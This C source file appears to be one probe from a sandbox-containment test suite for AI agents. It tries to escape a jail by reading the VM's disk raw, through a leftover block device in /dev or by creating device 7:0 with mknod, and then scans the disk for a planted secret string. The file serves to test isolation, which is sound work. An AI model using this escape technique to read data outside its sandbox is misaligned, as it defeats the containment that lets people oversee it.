/* mknod-disk: reads the VM's disk through a device node and finds the secret in its blocks. */
#include "probe.h"
#include <dirent.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>

#define CHUNK (1 << 20)

/* Scans a block device for SECRET-<24 hex> and prints every distinct one (old checks' secrets may linger). */
static int scan(const char *how, const char *node) {
  int fd = open(node, O_RDONLY | O_DIRECT);
  if (fd < 0 && errno == EINVAL) fd = open(node, O_RDONLY);
  if (fd < 0) {
    char call[300];
    snprintf(call, sizeof call, "open(\"%s\")", node);
    probe_blocked(call, errno);
    return 0;
  }
  /* The agent does not sync after writing the secret: flush it to the disk so its blocks hold it. Only now, with a
   * device open: under TCG a sync costs tens of milliseconds, and a jail that holds never gets this far. */
  sync();
  char *buf;
  if (posix_memalign((void **)&buf, 4096, CHUNK + 64) != 0) return 0;
  char seen[16][32];
  int nseen = 0;
  ssize_t n;
  long long total = 0;
  while ((n = read(fd, buf, CHUNK)) > 0) {
    total += n;
    for (char *p = buf; (p = memmem(p, (size_t)(buf + n - p), "SECRET-", 7)) && p + 31 <= buf + n; p += 7) {
      int hex = 1;
      for (int i = 7; i < 31; i++) hex &= (p[i] >= '0' && p[i] <= '9') || (p[i] >= 'a' && p[i] <= 'f');
      if (!hex) continue;
      int dup = 0;
      for (int i = 0; i < nseen; i++) dup |= memcmp(seen[i], p, 31) == 0;
      if (dup || nseen == 16) continue;
      memcpy(seen[nseen], p, 31);
      seen[nseen][31] = 0;
      probe_say("escape: %s -> %s", how, seen[nseen]);
      nseen++;
    }
  }
  close(fd);
  if (nseen == 0) probe_say("read %lld bytes of %s, no secret in them", total, node);
  return nseen > 0;
}

int main(int argc, char **argv) {
  probe_start(argc, argv, "mknod-disk");
  /* A device node someone left in the jail (cp -a /dev ...) needs no privilege at all. */
  DIR *d = opendir("/dev");
  if (d) {
    struct dirent *e;
    while ((e = readdir(d))) {
      char p[300];
      snprintf(p, sizeof p, "/dev/%s", e->d_name);
      struct stat st;
      if (stat(p, &st) == 0 && S_ISBLK(st.st_mode)) {
        char how[400];
        snprintf(how, sizeof how, "block device %s found in the jail, read raw", p);
        if (scan(how, p)) return 0;
      }
    }
    closedir(d);
  }
  /* Root can make its own: block device 7:0 is /dev/loop0, the disk the world lives on. */
  const char *dirs[] = {"/tmp", "/", "/data", "/bin"};
  for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++) {
    char node[64];
    snprintf(node, sizeof node, "%s/.probe-disk", strcmp(dirs[i], "/") ? dirs[i] : "");
    unlink(node);
    if (mknod(node, S_IFBLK | 0600, makedev(7, 0)) != 0) {
      if (errno == EPERM) {
        probe_blocked("mknod(block device 7:0)", errno);
        break;
      }
      continue;
    }
    if (scan("mknod(block device 7:0 = the VM's disk), read raw", node)) return 0;
    break;
  }
  probe_say("contained: no way to read the disk");
  return 1;
}
